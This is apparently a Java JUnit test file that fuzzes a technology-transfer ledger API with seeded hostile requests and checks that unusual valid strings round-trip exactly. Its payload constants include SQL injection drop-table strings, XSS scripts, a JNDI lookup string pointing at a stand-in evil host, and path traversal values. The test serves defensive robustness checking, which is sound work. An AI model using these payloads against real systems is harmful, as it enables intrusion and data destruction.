package org.techtransfer.ledger.app.web;

import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.techtransfer.ledger.app.support.LedgerClient;
import org.techtransfer.ledger.app.support.LedgerNode;
import org.techtransfer.ledger.app.support.TestDatabase;
import org.techtransfer.ledger.app.support.TestUsers;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.function.Supplier;

import static org.assertj.core.api.Assertions.assertThat;
import static org.techtransfer.ledger.app.support.Deals.body;
import static org.techtransfer.ledger.app.support.Deals.contract;
import static org.techtransfer.ledger.app.support.Deals.cost;
import static org.techtransfer.ledger.app.support.Deals.decision;
import static org.techtransfer.ledger.app.support.Deals.equity;
import static org.techtransfer.ledger.app.support.Deals.income;
import static org.techtransfer.ledger.app.support.Deals.institution;
import static org.techtransfer.ledger.app.support.Deals.payment;

/**
 * Issue 7, hostile input: well over a thousand requests generated from a seed (wrong types, huge numbers,
 * deep JSON, long strings, SQL and script fragments, wrong content types, oversized bodies, broken
 * UTF-8, malicious paths and credentials) against every command endpoint of docs/api.md. None may be answered
 * with a 5xx or accepted, and the log must not grow by a single event. Then strings that are nasty but
 * valid (SQL, markup, bidi controls, emoji, combining marks) are recorded and must come back, from the
 * HTTP API and from the database itself, exactly as they were sent.
 */
class HostileInputTest {

    private static final String API = "/api/v1";
    /** Every non-ASCII character escaped, so that a lone surrogate reaches the ledger as such (UTF-8 cannot carry it). */
    private static final ObjectMapper JSON = new ObjectMapper().enable(JsonWriteFeature.ESCAPE_NON_ASCII.mappedFeature());
    private static final String TARGET = "C-HOSTILE";
    private static final int ATTACKS = 1_200;
    private static final long SEED = Long.getLong("ledger.hostile.seed", 20261125L);

    private static String url;
    private static LedgerNode node;
    private static LedgerClient client;

    @BeforeAll
    static void start() {
        url = TestDatabase.fresh();
        node = LedgerNode.start(url);
        client = node.client();
        created(client.post("admin", API + "/institutions", institution("DEMO-A", "BEIJING")));
        String base = API + "/contracts/" + TARGET;
        created(client.post("recorder-a", API + "/contracts", contract(TARGET, "DEMO-A", "EQUITY_INVESTMENT")));
        created(client.post("recorder-a", base + "/incomes", income("I-1", "1000.00", "2026-03-15")));
        created(client.post("recorder-a", base + "/equity", equity("E-1", 100)));
        created(client.post("recorder-a", base + "/reward-decisions", decision("D-1", "350.00", "350.00", "700.00")));
    }

    @AfterAll
    static void stop() {
        if (node != null) {
            node.close();
        }
    }

    // ---- the endpoints and what kind of value each required field holds ----

    enum Kind { ID, TEXT, MONEY, SHARES, DATE, ENUM, BOOLEAN, REGION, OBJECT, LIST }

    record Endpoint(String path, Supplier<Map<String, Object>> valid, Map<String, Kind> fields) {
    }

    private static Map<String, Kind> fields(Object... namesAndKinds) {
        Map<String, Kind> fields = new LinkedHashMap<>();
        for (int i = 0; i < namesAndKinds.length; i += 2) {
            fields.put((String) namesAndKinds[i], (Kind) namesAndKinds[i + 1]);
        }
        return fields;
    }

    private static final String ON_TARGET = API + "/contracts/" + TARGET;
    private static final List<Endpoint> ENDPOINTS = List.of(
            new Endpoint(API + "/institutions", () -> institution("I-NEW", "BEIJING"), fields("institutionId", Kind.ID,
                    "name", Kind.TEXT, "type", Kind.ENUM, "governmentEstablished", Kind.BOOLEAN, "regionCode", Kind.REGION,
                    "policy", Kind.ENUM)),
            new Endpoint(API + "/contracts", () -> contract("C-NEW", "DEMO-A", "LICENSE"), fields("contractId", Kind.ID,
                    "registrationNumber", Kind.ID, "kind", Kind.ENUM, "sellerInstitutionId", Kind.ID, "buyer", Kind.OBJECT,
                    "technologyField", Kind.TEXT, "totalAmount", Kind.MONEY, "technologyAmount", Kind.MONEY,
                    "signedOn", Kind.DATE, "contributors", Kind.LIST)),
            new Endpoint(ON_TARGET + "/incomes", () -> income("I-X", "100.00", "2026-04-01"), fields("incomeId", Kind.ID,
                    "amount", Kind.MONEY, "receivedOn", Kind.DATE, "category", Kind.ENUM)),
            new Endpoint(ON_TARGET + "/costs", () -> cost("K-X", "10.00", "MAINTENANCE"), fields("costId", Kind.ID,
                    "amount", Kind.MONEY, "incurredOn", Kind.DATE, "category", Kind.ENUM)),
            new Endpoint(ON_TARGET + "/equity", () -> equity("E-X", 10), fields("equityId", Kind.ID, "company", Kind.TEXT,
                    "shares", Kind.SHARES, "valuation", Kind.MONEY, "receivedOn", Kind.DATE)),
            new Endpoint(ON_TARGET + "/reward-decisions", () -> decision("D-X", "500.00", "500.00", "1000.00"),
                    fields("decisionId", Kind.ID, "decidedOn", Kind.DATE, "total", Kind.MONEY, "allocations", Kind.LIST)),
            new Endpoint(ON_TARGET + "/equity-rewards", () -> body("decisionId", "ED-X", "decidedOn", "2026-04-02",
                    "totalShares", 70, "allocations", List.of(body("personId", "P-1", "shares", 70))),
                    fields("decisionId", Kind.ID, "decidedOn", Kind.DATE, "totalShares", Kind.SHARES, "allocations", Kind.LIST)),
            new Endpoint(ON_TARGET + "/publicity", () -> body("noticeId", "N-X", "decisionId", "D-1", "from", "2026-04-01",
                    "to", "2026-04-10"), fields("noticeId", Kind.ID, "decisionId", Kind.ID, "from", Kind.DATE, "to", Kind.DATE)),
            new Endpoint(ON_TARGET + "/payments", () -> payment("PAY-X", "P-1", "10.00", "2026-04-20"),
                    fields("paymentId", Kind.ID, "personId", Kind.ID, "amount", Kind.MONEY, "paidOn", Kind.DATE,
                            "reference", Kind.TEXT)),
            new Endpoint(ON_TARGET + "/amendments", () -> body("amendmentId", "A-X", "totalAmount", "1300000.00",
                    "technologyAmount", "1100000.00", "reason", "supplement signed"), fields("amendmentId", Kind.ID,
                    "totalAmount", Kind.MONEY, "technologyAmount", Kind.MONEY, "reason", Kind.TEXT)),
            new Endpoint(ON_TARGET + "/reversals", () -> body("reversalId", "R-X", "entryId", "I-1", "reason", "recorded twice"),
                    fields("reversalId", Kind.ID, "entryId", Kind.ID, "reason", Kind.TEXT)),
            new Endpoint(ON_TARGET + "/termination", () -> body("terminatedOn", "2026-09-30", "reason", "licensee insolvent"),
                    fields("terminatedOn", Kind.DATE, "reason", Kind.TEXT)));

    // ---- values no field of its kind accepts ----

    private static final List<Object> NOT_A_SCALAR = List.of(Map.of(), List.of(), List.of("x", 1), Map.of("$ne", ""),
            Map.of("$where", "sleep(1000)"));
    private static final String SQL = "'; DROP TABLE domain_event_entry; --";
    private static final String SCRIPT = "<script>alert(document.cookie)</script>";
    private static final List<Object> BAD = List.of(SQL, SCRIPT, "1' OR '1'='1", "${jndi:ldap://evil.example/x}", "",
            "   ", "\u0000", "\u202E\u0000", "NaN", "Infinity");

    private static List<Object> invalid(Kind kind) {
        List<Object> values = new ArrayList<>(NOT_A_SCALAR);
        switch (kind) {
            case ID -> values.addAll(List.of("", " \t ", "x".repeat(101), "id\u0000", "id\nwith-newline", "\u001b[31mred",
                    "lone \uD800 surrogate", "\uDFFF", "ｘ".repeat(101), "a".repeat(100_000)));
            case TEXT -> values.addAll(List.of("", "   ", "t".repeat(1_001), "text\u0000", "bell\u0007",
                    "lone \uD83D surrogate", "中".repeat(1_001), "a".repeat(500_000)));
            case MONEY -> values.addAll(List.of("1e400", 1e300, "99999999999999999999.00", "1000000000000000.00", "-1.00",
                    "0.00", "0", "1.001", "1,000.00", " 1.00", "0x10", "１００.００", "NaN", "Infinity", "-0.00", "1.00\u0000",
                    SQL, SCRIPT, "1" + "0".repeat(5_000), new java.math.BigDecimal("1e-400")));
            case SHARES -> values.addAll(List.of(0, -1, 1.5, "1e3", "9223372036854775808", new java.math.BigInteger("9".repeat(400)),
                    "ten", SQL, 1e300, "１０"));
            case DATE -> values.addAll(List.of("2026-02-30", "2026-13-01", "0000-00-00", "2026-3-1", "2026/03/01", "yesterday",
                    "２０２６-０３-０１", SQL, SCRIPT, 20260301, "2026-03-01\u0000"));
            case ENUM -> values.addAll(BAD);
            case BOOLEAN -> values.addAll(List.of("yes", "maybe", SQL, "\u0000", 2.5));
            case REGION -> values.addAll(List.of("11011", "1101160", "１１０１１６", "abcdef", SQL, "110116\u0000", "-11011"));
            case OBJECT -> values.addAll(List.of("x", 1, true, SQL));
            case LIST -> values.addAll(List.of("x", 1, true, SQL, List.of(), List.of(SQL), List.of(1, 2)));
        }
        return values;
    }

    // ---- one generated request ----

    record Attack(String name, String method, String path, String contentType, byte[] body, String authorization) {
        @Override
        public String toString() {
            String shown = new String(body, 0, Math.min(body.length, 300), StandardCharsets.UTF_8);
            return name + " " + method + " " + path.substring(0, Math.min(path.length(), 200)) + " [" + contentType + "] " + shown;
        }
    }

    private static String basic(String user, String password) {
        return "Basic " + Base64.getEncoder().encodeToString((user + ":" + password).getBytes(StandardCharsets.UTF_8));
    }

    private static final String RECORDER = basic("recorder-a", TestUsers.PASSWORD);

    static List<Attack> generate(long seed, int count) {
        Random random = new Random(seed);
        List<Attack> attacks = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            Endpoint endpoint = ENDPOINTS.get(random.nextInt(ENDPOINTS.size()));
            Map<String, Object> valid = endpoint.valid().get();
            List<String> names = new ArrayList<>(endpoint.fields().keySet());
            String field = names.get(random.nextInt(names.size()));
            int category = random.nextInt(12);
            attacks.add(switch (category) {
                case 0, 1, 2, 3 -> {
                    List<Object> values = invalid(endpoint.fields().get(field));
                    Object value = values.get(random.nextInt(values.size()));
                    valid.put(field, value);
                    yield json("invalid " + field, endpoint.path(), valid);
                }
                case 4 -> {
                    valid.remove(field);
                    yield json("missing " + field, endpoint.path(), valid);
                }
                case 5 -> {
                    int depth = List.of(1_001, 5_000, 100_000).get(random.nextInt(3));
                    boolean arrays = random.nextBoolean();
                    String nested = (arrays ? "[" : "{\"a\":").repeat(depth) + "1" + (arrays ? "]" : "}").repeat(depth);
                    String text = random.nextBoolean() ? nested : json(valid).replaceFirst("\"" + field + "\":", "\"" + field + "\":" + nested + ",\"x\":");
                    yield new Attack("deep JSON " + depth, "POST", endpoint.path(), "application/json", utf8(text), RECORDER);
                }
                case 6 -> {
                    List<String> types = List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                            "multipart/form-data; boundary=x", "application/octet-stream", "text/html", "image/png",
                            "application/javascript");
                    yield new Attack("content type", "POST", endpoint.path(), types.get(random.nextInt(types.size())),
                            utf8(json(valid)), RECORDER);
                }
                case 7 -> {
                    // over 1 MiB: padding a valid body, or one long text
                    valid.put(field, "x".repeat(1024 * 1024 + random.nextInt(4 * 1024 * 1024)));
                    yield json("oversized", endpoint.path(), valid);
                }
                case 8 -> {
                    List<byte[]> broken = List.of(new byte[]{(byte) 0xC3, 0x28}, new byte[]{(byte) 0xC0, (byte) 0xAF},
                            new byte[]{(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[]{(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80},
                            new byte[]{(byte) 0xFF, (byte) 0xFE});
                    String text = json(valid);
                    int cut = text.indexOf('"', text.indexOf(':') + 1) + 1; // inside the first field's value
                    byte[] head = utf8(text.substring(0, cut));
                    byte[] bad = broken.get(random.nextInt(broken.size()));
                    byte[] tail = utf8(text.substring(cut));
                    byte[] all = new byte[head.length + bad.length + tail.length];
                    System.arraycopy(head, 0, all, 0, head.length);
                    System.arraycopy(bad, 0, all, head.length, bad.length);
                    System.arraycopy(tail, 0, all, head.length + bad.length, tail.length);
                    yield new Attack("broken UTF-8", "POST", endpoint.path(), "application/json", all, RECORDER);
                }
                case 9 -> {
                    List<String> bodies = List.of("[]", "null", "\"x\"", "123", "true", "{", "{\"a\":1", json(valid) + "garbage",
                            json(valid).substring(0, json(valid).length() / 2), "{\"a\":1}{\"b\":2}", "/* */" + json(valid),
                            "{\"incomeId\":\"I-Y\",,}", "\uFEFF\uFEFF" + json(valid));
                    yield new Attack("malformed JSON", "POST", endpoint.path(), "application/json",
                            utf8(bodies.get(random.nextInt(bodies.size()))), RECORDER);
                }
                case 10 -> {
                    // the contract in the path does not exist, or is no path at all
                    List<String> ids = List.of(SQL, SCRIPT, "C-HOSTILE' OR '1'='1", "..", "%00", "C-HOSTILE%00", "C-HOSTILE%2F..",
                            "x".repeat(10_000), "\u202EELITSOH-C", "C-HOSTILE\u0000", "*", "C-HOSTILE;DROP");
                    String id = ids.get(random.nextInt(ids.size()));
                    String encoded = id.contains("%") ? id : URLEncoder.encode(id, StandardCharsets.UTF_8).replace("+", "%20");
                    String path = endpoint.path().startsWith(ON_TARGET)
                            ? API + "/contracts/" + encoded + endpoint.path().substring(ON_TARGET.length())
                            : endpoint.path() + "/" + encoded;
                    yield new Attack("path " + id.substring(0, Math.min(20, id.length())), "POST", path, "application/json",
                            utf8(json(valid)), RECORDER);
                }
                default -> {
                    List<String> credentials = List.of(basic("recorder-a", "wrong"), basic("recorder-b", TestUsers.PASSWORD),
                            basic("auditor", TestUsers.PASSWORD), basic("finance", TestUsers.PASSWORD),
                            basic("admin' --", TestUsers.PASSWORD), basic("recorder-a", TestUsers.PASSWORD + "\u0000"),
                            "Basic !!!not-base64", "Basic " + Base64.getEncoder().encodeToString("no-colon".getBytes(StandardCharsets.UTF_8)),
                            "Bearer " + "x".repeat(5_000), "Basic " + "A".repeat(7_000), "");
                    String authorization = credentials.get(random.nextInt(credentials.size()));
                    boolean refusedAnyway = authorization.equals(basic("recorder-b", TestUsers.PASSWORD))
                            || authorization.equals(basic("auditor", TestUsers.PASSWORD))
                            || authorization.equals(basic("finance", TestUsers.PASSWORD));
                    if (refusedAnyway && endpoint.path().endsWith("/institutions")) {
                        authorization = basic("admin", "wrong");
                    }
                    yield new Attack("credentials", "POST", endpoint.path(), "application/json", utf8(json(valid)), authorization);
                }
            });
        }
        return attacks;
    }

    private static Attack json(String name, String path, Map<String, Object> body) {
        return new Attack(name, "POST", path, "application/json", utf8(json(body)), RECORDER);
    }

    private static String json(Object body) {
        try {
            return JSON.writeValueAsString(body);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    // ---- the tests ----

    @Test
    void generated_hostile_requests_are_refused_without_a_5xx_and_record_nothing() throws SQLException {
        long eventsBefore = count("SELECT count(*) FROM domain_event_entry");
        long commandsBefore = count("SELECT count(*) FROM command_log");
        long versionBefore = client.get("admin", ON_TARGET).json().get("version").asLong();

        List<Attack> attacks = generate(SEED, ATTACKS);
        Map<Integer, Integer> statuses = new TreeMap<>();
        Map<String, Integer> categories = new TreeMap<>();
        List<String> wrong = new ArrayList<>();
        for (Attack attack : attacks) {
            int status = send(attack).status();
            statuses.merge(status, 1, Integer::sum);
            categories.merge(attack.name().split(" ")[0], 1, Integer::sum);
            if (status < 400 || status >= 500) {
                wrong.add(status + " for " + attack);
            }
        }

        assertThat(wrong).as("answers outside 4xx (seed " + SEED + ")").isEmpty();
        assertThat(count("SELECT count(*) FROM domain_event_entry")).as("events").isEqualTo(eventsBefore);
        assertThat(count("SELECT count(*) FROM command_log")).as("command-log rows").isEqualTo(commandsBefore);
        assertThat(client.get("admin", ON_TARGET).json().get("version").asLong()).isEqualTo(versionBefore);
        assertThat(client.get("admin", API + "/contracts/C-NEW").status()).isEqualTo(404);
        assertThat(client.get("admin", API + "/institutions/I-NEW").status()).isEqualTo(404);
        System.out.printf("reliability hostile input: seed=%d requests=%d statuses=%s kinds=%s events recorded=%d%n",
                SEED, attacks.size(), statuses, categories, count("SELECT count(*) FROM domain_event_entry") - eventsBefore);
    }

    /** Valid, and hostile to anything that would treat them as code or mangle them as text. */
    static final List<String> NASTY = List.of(
            "Robert'); DROP TABLE domain_event_entry;--",
            "1' OR '1'='1' /* */ UNION SELECT password FROM users --",
            "<script>alert('x')</script><img src=x onerror=alert(1)>",
            "${jndi:ldap://evil.example/a} {{7*7}} %s%n%x",
            "\u202Egnp.exe \u202Dleft\u200F\u200E right-to-left marks",
            "zero\u200Bwidth\u200Djoiner\uFEFFbom \u2028line\u2029paragraph",
            "👩🏽‍🔬 researcher 🧪🇨🇳 family 👨‍👩‍👧‍👦",
            "e\u0301\u0302\u0303\u0304 Z\u0351\u0352\u0353\u0354\u0355algo",
            "中关村技术转移 怀柔科学城 纳米能源研究所",
            "مرحبا بالعالم עברית",
            "back\\slash \"quotes\" 'single' `tick` ; -- #",
            "null",
            "\uFFFD replacement \uFFFF non-character \uD83F\uDFFE plane-15 non-character",
            "中".repeat(999) + "末");

    @Test
    @SuppressWarnings("unchecked")
    void nasty_but_valid_strings_are_stored_and_returned_as_sent() throws Exception {
        for (int i = 0; i < NASTY.size(); i++) {
            String nasty = NASTY.get(i);
            String contractId = "C-NASTY-" + i;
            String incomeId = nasty.substring(0, Math.min(nasty.length(), 100));
            Map<String, Object> contract = contract(contractId, "DEMO-A", "LICENSE");
            contract.put("technologyField", nasty);
            ((Map<String, Object>) contract.get("buyer")).put("name", nasty);
            // given commands whose ids and texts are nasty strings
            created(client.post("recorder-a", API + "/contracts", contract));
            created(client.post("recorder-a", API + "/contracts/" + contractId + "/incomes", income(incomeId, "100.00", "2026-03-15")));
            created(client.post("recorder-a", API + "/contracts/" + contractId + "/reversals",
                    body("reversalId", "R-" + i, "entryId", incomeId, "reason", nasty)));
            Map<String, Object> institution = institution("INST-NASTY-" + i, "NATIONAL");
            institution.put("name", nasty);
            created(client.post("admin", API + "/institutions", institution));

            // then the API returns them exactly
            JsonNode events = client.get("auditor", API + "/contracts/" + contractId + "/events").json();
            assertThat(events.get(0).get("payload").get("technologyField").asText()).isEqualTo(nasty);
            assertThat(events.get(0).get("payload").get("buyer").get("name").asText()).isEqualTo(nasty);
            assertThat(events.get(1).get("payload").get("incomeId").asText()).isEqualTo(incomeId);
            assertThat(events.get(2).get("payload").get("reason").asText()).isEqualTo(nasty);
            assertThat(client.get("auditor", API + "/contracts/" + contractId).json().get("technologyField").asText()).isEqualTo(nasty);
            assertThat(client.get("admin", API + "/institutions/INST-NASTY-" + i).json().get("name").asText()).isEqualTo(nasty);

            // and so does the database, read without the service
            try (Connection c = TestDatabase.connect(url); PreparedStatement s = c.prepareStatement(
                    "SELECT payload::jsonb->>'technologyField', payload::jsonb->'buyer'->>'name' FROM domain_event_entry "
                            + "WHERE aggregate_identifier = ? AND sequence_number = 0")) {
                s.setString(1, contractId);
                try (ResultSet r = s.executeQuery()) {
                    assertThat(r.next()).isTrue();
                    assertThat(r.getString(1)).isEqualTo(nasty);
                    assertThat(r.getString(2)).isEqualTo(nasty);
                }
            }
        }
    }

    private static LedgerClient.Response send(Attack attack) {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://localhost:" + node.port() + attack.path()))
                .method(attack.method(), HttpRequest.BodyPublishers.ofByteArray(attack.body()));
        if (attack.contentType() != null) {
            request.header("Content-Type", attack.contentType());
        }
        if (!attack.authorization().isEmpty()) {
            request.header("Authorization", attack.authorization());
        }
        return client.send(null, request);
    }

    private static long count(String sql) throws SQLException {
        try (Connection c = TestDatabase.connect(url); Statement s = c.createStatement(); ResultSet r = s.executeQuery(sql)) {
            r.next();
            return r.getLong(1);
        }
    }

    private static void created(LedgerClient.Response response) {
        assertThat(response.status()).as(response.toString()).isEqualTo(201);
    }
}
